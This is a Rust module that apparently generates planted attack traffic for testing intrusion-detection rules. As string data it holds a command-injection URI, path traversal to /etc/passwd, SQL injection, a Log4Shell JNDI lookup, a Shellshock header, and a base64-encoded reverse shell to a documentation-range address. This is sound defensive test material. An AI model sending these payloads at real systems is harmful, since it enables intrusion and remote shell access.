//! The attacks that are planted: each plays once and is due exactly one alert of its rule in `demo.rules`.
//!
//! None of them works. They carry the bytes, flags and timing that rules look for, against hosts that do not exist.

mod plays;

use super::Planted;
use super::stage::Stage;
use super::tunnel::Tunnel;
use super::wire::{Dir, Path, flag};
use plays::{
    bad_name, bad_query, beacon, datagram_attack, dns_tunnel, http_brute_force, icmp_tunnel,
    in_fragments, land, lone_segment, monlist, nop_sled, ping_of_death, ping_sweep, port_scan,
    probe, reverse_shell, root_answer, smb_overflow, ssh_brute_force, teardrop,
};

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";

/// A kind of attack.
pub(super) struct Attack {
    name: &'static str,
    sid: u32,
    description: &'static str,
    play: fn(&mut Stage<'_>) -> Alert,
}

/// The packet that alerts.
struct Alert {
    path: Path,
    dir: Dir,
    proto: &'static str,
    /// False where the packet has no ports: ICMP, and fragments.
    ports: bool,
}

impl Alert {
    fn tcp(path: Path, dir: Dir) -> Self {
        Self {
            path,
            dir,
            proto: "TCP",
            ports: true,
        }
    }

    fn udp(path: Path) -> Self {
        Self {
            proto: "UDP",
            ..Self::tcp(path, Dir::Up)
        }
    }

    fn portless(path: Path, proto: &'static str) -> Self {
        Self {
            path,
            dir: Dir::Up,
            proto,
            ports: false,
        }
    }
}

impl Attack {
    /// Plays the attack and says where it was put.
    pub(super) fn plant(&self, stage: &mut Stage<'_>) -> Planted {
        let ts_ns = stage.start;
        let Alert {
            path,
            dir,
            proto,
            ports,
        } = (self.play)(stage);
        let (src, dst) = path.ends(dir);
        let (sport, dport) = if ports { path.ports(dir) } else { (0, 0) };
        Planted {
            name: self.name,
            sid: self.sid,
            description: self.description,
            ts_ns,
            src: src.ip,
            sport,
            dst: dst.ip,
            dport,
            proto,
        }
    }
}

/// All attacks, in the order in which they are planted.
pub(super) const ALL: &[Attack] = &[
    Attack {
        name: "command injection",
        sid: 9_000_001,
        description: "a shell command behind an encoded semicolon in a URI",
        play: |stage| {
            probe(
                stage,
                "GET",
                "/cgi-bin/ping?host=127.0.0.1%3Bcat%20/etc/issue",
                BROWSER,
                b"",
            )
        },
    },
    Attack {
        name: "root shell answer",
        sid: 9_000_002,
        description: "a web server answers with the output of id(1), run as root",
        play: root_answer,
    },
    Attack {
        name: "path traversal",
        sid: 9_000_003,
        description: "a URI climbs out of the web root to /etc/passwd",
        play: |stage| probe(stage, "GET", "/static/../../../../etc/passwd", BROWSER, b""),
    },
    Attack {
        name: "SQL injection",
        sid: 9_000_004,
        description: "UNION SELECT in a query parameter",
        play: |stage| {
            let uri = "/shop?item=7%27%20UNION%20ALL%20SELECT%20login,secret%20FROM%20users--";
            probe(stage, "GET", uri, BROWSER, b"")
        },
    },
    Attack {
        name: "webshell client",
        sid: 9_000_005,
        description: "the user agent of a webshell's client",
        play: |stage| {
            probe(
                stage,
                "POST",
                "/uploads/image.php",
                "antSword/v2.1",
                b"cmd=dir",
            )
        },
    },
    Attack {
        name: "Log4Shell",
        sid: 9_000_006,
        description: "a JNDI lookup in a user agent",
        play: |stage| {
            probe(
                stage,
                "GET",
                "/",
                "${jndi:ldap://203.0.113.130:1389/a}",
                b"",
            )
        },
    },
    Attack {
        name: "DNS tunnel",
        sid: 9_000_007,
        description: "a stream of TXT queries whose first label is full of data",
        play: dns_tunnel,
    },
    Attack {
        name: "SMB overflow",
        sid: 9_000_008,
        description: "an SMB1 NT Trans request with a long run of one byte",
        play: smb_overflow,
    },
    Attack {
        name: "TLS to a bad name",
        sid: 9_000_009,
        description: "a client hello that asks for a malware domain",
        play: bad_name,
    },
    Attack {
        name: "port scan",
        sid: 9_000_010,
        description: "SYNs with a scanner's window to 120 ports of one server",
        play: port_scan,
    },
    Attack {
        name: "ping sweep",
        sid: 9_000_011,
        description: "empty pings to 30 addresses in a quarter of a second",
        play: ping_sweep,
    },
    Attack {
        name: "SSH brute force",
        sid: 9_000_012,
        description: "12 SSH connections in 5 seconds from one address",
        play: ssh_brute_force,
    },
    Attack {
        name: "HTTP brute force",
        sid: 9_000_013,
        description: "12 failed logins on one connection",
        play: http_brute_force,
    },
    Attack {
        name: "NOP sled",
        sid: 9_000_014,
        description: "a datagram with 160 NOPs in front of what would be code",
        play: nop_sled,
    },
    Attack {
        name: "ping of death",
        sid: 9_000_015,
        description: "a last fragment that ends beyond the largest packet",
        play: ping_of_death,
    },
    Attack {
        name: "teardrop",
        sid: 9_000_016,
        description: "two fragments that overlap and differ",
        play: teardrop,
    },
    Attack {
        name: "attack inside VXLAN",
        sid: 9_000_017,
        description: "an SQL scanner's request, carried in VXLAN",
        play: |stage| {
            stage.in_tunnel(Tunnel::Vxlan(42), |stage| {
                probe(
                    stage,
                    "GET",
                    "/item?id=1",
                    "sqlmap/1.8.4#stable (https://sqlmap.org)",
                    b"",
                )
            })
        },
    },
    Attack {
        name: "beacon",
        sid: 9_000_018,
        description: "a workstation reports to one address every ten seconds",
        play: beacon,
    },
    Attack {
        name: "attack in fragments",
        sid: 9_000_019,
        description: "a log message with a download command, cut into three fragments in the wrong order",
        play: in_fragments,
    },
    Attack {
        name: "Christmas tree",
        sid: 9_000_020,
        description: "a TCP packet with FIN, PSH and URG and nothing else",
        play: |stage| lone_segment(stage, flag::FIN | flag::PSH | flag::URG),
    },
    Attack {
        name: "LAND",
        sid: 9_000_021,
        description: "a SYN from a server to itself",
        play: land,
    },
    Attack {
        name: "bad name inside GRE",
        sid: 9_000_022,
        description: "a query for an exfiltration domain, carried in GRE",
        play: |stage| stage.in_tunnel(Tunnel::Gre, bad_query),
    },
    Attack {
        name: "Shellshock over IPv6",
        sid: 9_000_023,
        description: "a function definition in a user agent, over IPv6",
        play: |stage| {
            stage.use_v6();
            probe(stage, "GET", "/cgi-bin/status", "() { :;}; echo weir", b"")
        },
    },
    Attack {
        name: "NTP amplification",
        sid: 9_000_024,
        description: "a monlist request",
        play: monlist,
    },
    Attack {
        name: "reverse shell",
        sid: 9_000_025,
        description: "a shell's first words on a connection that a workstation opened",
        play: reverse_shell,
    },
    Attack {
        name: "encoded command",
        sid: 9_000_026,
        description: "an interactive shell command in base64 in a POST body",
        play: |stage| {
            let body = b"cmd=L2Jpbi9zaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTMwLzQ0NDQgMD4mMQ==";
            probe(stage, "POST", "/api/run", BROWSER, body)
        },
    },
    Attack {
        name: "ICMP tunnel",
        sid: 9_000_027,
        description: "a ping that carries an SSH banner and a lot of data",
        play: icmp_tunnel,
    },
    Attack {
        name: "config theft inside IP-in-IP",
        sid: 9_000_028,
        description: "a TFTP request for a router's configuration, carried in IP-in-IP",
        play: |stage| {
            stage.in_tunnel(Tunnel::IpIp, |stage| {
                let (client, server) = (stage.attacker(9), stage.server(1));
                datagram_attack(
                    stage,
                    client,
                    server,
                    69,
                    b"\x00\x01running-config\x00octet\x00",
                )
            })
        },
    },
];
